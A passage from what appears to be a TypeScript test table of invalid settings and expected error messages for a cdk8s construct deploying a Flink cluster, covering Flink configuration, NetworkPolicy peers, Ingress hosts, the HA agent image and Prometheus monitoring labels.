  row(
    'escape hatch: not an object',
    'flinkConfiguration: "pipeline.name: x"',
    ex(() => ({ flinkConfiguration: 'pipeline.name: x' })),
    'flinkConfiguration: "pipeline.name: x" - must be an object of Flink keys to values',
  ),
  row(
    'escape hatch: "#" in flink-conf.yaml (1.18)',
    'flinkVersion: FlinkVersion.V1_18, flinkConfiguration: { "pipeline.name": "job #1" }',
    ex(() => ({ flinkConfiguration: { 'pipeline.name': 'job #1' } }), FlinkVersion.V1_18),
    'flinkConfiguration["pipeline.name"]: "job #1" - cannot be written to flink-conf.yaml (Flink 1.18 reads "#" as a comment and trims values); remove the "#", line break or surrounding spaces',
  ),
  row(
    'log level in lower case',
    'logLevel: "info"',
    ex(() => ({ logLevel: 'info' })),
    'logLevel: "info" - must be one of TRACE, DEBUG, INFO, WARN, ERROR, OFF',
  ),
  row(
    'rest peers not a list',
    'network: { restAllowedFrom: { namespaceSelector: {} } }',
    ex(() => ({ network: { restAllowedFrom: { namespaceSelector: {} } } })),
    'network.restAllowedFrom: {"namespaceSelector":{}} - must be a list of NetworkPolicy peers, e.g. [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "monitoring" } } }]',
  ),
  row(
    'rest peer with a misspelt selector',
    'network: { restAllowedFrom: [{ namespaceSelecter: {} }] }',
    ex(() => ({ network: { restAllowedFrom: [{ namespaceSelecter: {} }] } })),
    'network.restAllowedFrom[0]: "namespaceSelecter" - is not a field of k8s.NetworkPolicyPeer: cdk8s would leave it out of the YAML; did you mean "namespaceSelector"?',
  ),
  row(
    'misspelt field inside a peer selector',
    'network: { restAllowedFrom: [{ podSelector: { matchLables: { app: "ingress" } } }] }',
    ex(() => ({ network: { restAllowedFrom: [{ podSelector: { matchLables: { app: 'ingress' } } }] } })),
    'network.restAllowedFrom[0].podSelector: "matchLables" - is not a field of k8s.LabelSelector: cdk8s would leave it out of the YAML (and a selector left empty matches every pod); did you mean "matchLabels"?',
  ),
  row(
    'empty peer',
    'network: { restAllowedFrom: [{}] }',
    ex(() => ({ network: { restAllowedFrom: [{}] } })),
    'network.restAllowedFrom[0]: {} - must set podSelector, namespaceSelector or ipBlock (an empty peer is refused by Kubernetes), e.g. { namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "monitoring" } } }',
  ),
  row(
    'peer selector expression without its operator',
    'network: { restAllowedFrom: [{ podSelector: { matchExpressions: [{ key: "app", values: ["x"] }] } }] }',
    ex(() => ({
      network: { restAllowedFrom: [{ podSelector: { matchExpressions: [{ key: 'app', values: ['x'] }] } }] },
    })),
    'network.restAllowedFrom[0].podSelector.matchExpressions[0].operator: undefined - is required in k8s.LabelSelectorRequirement; set it or leave the whole object out',
  ),
  row(
    'peer label key "constructor"',
    'network: { restAllowedFrom: [{ podSelector: { matchLabels: { constructor: "x" } } }] }',
    ex(() => ({ network: { restAllowedFrom: [{ podSelector: { matchLabels: { constructor: 'x' } } }] } })),
    'network.restAllowedFrom[0].podSelector.matchLabels["constructor"]: "constructor" - cannot be written: cdk8s (2.x) fails to serialize any object with a key named "constructor"; use another key',
  ),
  row(
    'network policies flag not a boolean',
    'network: { networkPolicies: "off" }',
    ex(() => ({ network: { networkPolicies: 'off' } })),
    'network.networkPolicies: "off" - must be true or false',
  ),
  row(
    'Ingress the NetworkPolicy would block',
    'restIngress: { host: "flink.example.com" } without network.restAllowedFrom',
    ex(() => ({ restIngress: { host: 'flink.example.com' } })),
    'restIngress: "flink.example.com" - cannot reach the REST port: the NetworkPolicy only admits the cluster\'s own pods. Add your ingress controller to network.restAllowedFrom, e.g. [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "ingress-nginx" } } }]',
  ),
  row(
    'Ingress host not a DNS name',
    'restIngress: { host: "https://flink.example.com" }',
    ex(() => ({ network: { networkPolicies: false }, restIngress: { host: 'https://flink.example.com' } })),
    'restIngress.host: "https://flink.example.com" - must be a DNS name such as flink.example.com',
  ),
  row(
    'agent without HA',
    'highAvailability: { enabled: false }, haAgent: { enabled: true }',
    ex(() => ({ jobManager: { replicas: 1 }, highAvailability: { enabled: false }, haAgent: { enabled: true } })),
    "haAgent.enabled: true - needs highAvailability: the agent follows Flink's HA leader election",
  ),
  row(
    'agent image empty',
    'haAgent: { image: "" }',
    ex(() => ({ haAgent: { image: '' } })),
    'haAgent.image: "" - must be a non-empty string without line breaks or control characters',
  ),
  row(
    'agent image that is no image reference',
    'haAgent: { nodeImage: "node:24 alpine" }',
    ex(() => ({ haAgent: { nodeImage: 'node:24 alpine' } })),
    'haAgent.nodeImage: "node:24 alpine" - is not an image reference such as "node:24-alpine" or "registry.example.com/team/ha-agent:1.0@sha256:<64 hex>"',
  ),
  row(
    'metrics peers not a list',
    'metrics: { allowedFrom: "monitoring" }',
    ex(() => ({ metrics: { allowedFrom: 'monitoring' } })),
    'metrics.allowedFrom: "monitoring" - must be a list of NetworkPolicy peers, e.g. [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "monitoring" } } }]',
  ),
  row(
    'metrics peer ipBlock without a CIDR',
    'metrics: { allowedFrom: [{ ipBlock: { cidr: "10.0.0.0" } }] }',
    ex(() => ({ metrics: { allowedFrom: [{ ipBlock: { cidr: '10.0.0.0' } }] } })),
    'metrics.allowedFrom[0].ipBlock.cidr: "10.0.0.0" - must be a CIDR such as "10.0.0.0/8"',
  ),
  row(
    'peer ipBlock except outside its CIDR',
    'network: { restAllowedFrom: [{ ipBlock: { cidr: "10.0.0.0/8", except: ["11.0.0.0/16"] } }] }',
    ex(() => ({ network: { restAllowedFrom: [{ ipBlock: { cidr: '10.0.0.0/8', except: ['11.0.0.0/16'] } }] } })),
    'network.restAllowedFrom[0].ipBlock.except[0]: "11.0.0.0/16" - must be a CIDR strictly inside cidr 10.0.0.0/8 (Kubernetes refuses other except entries), e.g. a longer prefix of it',
  ),
  row(
    'PodMonitor without the Prometheus reporter',
    'metrics: { prometheus: false, podMonitor: {} }',
    ex(() => ({ metrics: { prometheus: false, podMonitor: {} } })),
    "metrics.prometheus: false - is needed by metrics.podMonitor and metrics.grafanaDashboard (they read Flink's Prometheus metrics); remove them or enable prometheus",
  ),
  row(
    'PodMonitor interval below one second',
    'metrics: { podMonitor: { interval: Duration.millis(500) } }',
    ex(() => ({ metrics: { podMonitor: { interval: Duration.millis(500) } } })),
    'metrics.podMonitor.interval: 500 millis - must be at least 1 second',
  ),
  row(
    'PodMonitor labels not an object',
    'metrics: { podMonitor: { labels: "release=prom" } }',
    ex(() => ({ metrics: { podMonitor: { labels: 'release=prom' } } })),
    'metrics.podMonitor.labels: "release=prom" - must be an object of label keys to values, e.g. { team: "data" }',
  ),
  row(
    'PodMonitor label key invalid',
    'metrics: { podMonitor: { labels: { "release name": "prom" } } }',
    ex(() => ({ metrics: { podMonitor: { labels: { 'release name': 'prom' } } } })),
    'metrics.podMonitor.labels["release name"]: "release name" - is not a valid label key (e.g. "release" or "example.com/team")',
  ),
  row(
    'dashboard label value invalid',
    'metrics: { grafanaDashboard: { labels: { grafana_dashboard: "yes please" } } }',
    ex(() => ({ metrics: { grafanaDashboard: { labels: { grafana_dashboard: 'yes please' } } } })),
    'metrics.grafanaDashboard.labels["grafana_dashboard"]: "yes please" - is not a valid label value (a string of at most 63 letters, digits, "-", "_" and ".")',
  ),
  row(
    'PodMonitor label the construct sets',
    'metrics: { podMonitor: { labels: { "app.kubernetes.io/instance": "prometheus" } } }',
    ex(() => ({ metrics: { podMonitor: { labels: { 'app.kubernetes.io/instance': 'prometheus' } } } })),
    'metrics.podMonitor.labels["app.kubernetes.io/instance"]: "app.kubernetes.io/instance" - is reserved: the construct sets app.kubernetes.io/name, app.kubernetes.io/instance, app.kubernetes.io/component, app.kubernetes.io/part-of, app.kubernetes.io/version, app.kubernetes.io/managed-by on every object it creates and would replace your value; use another key',
  ),
  row(
    'ConfigMap above 1 MiB',
    'flinkConfiguration: { "pipeline.name": "x".repeat(1100000) }',
    ex(() => ({ flinkConfiguration: { 'pipeline.name': 'x'.repeat(1_100_000) } })),
    'ConfigMap my-flink-cluster-flink-config: "1103153 bytes" - exceeds Kubernetes\' 1 MiB ConfigMap limit; move large values out of flinkConfiguration, or use haAgent.image instead of the bundled agent',
  ),
];
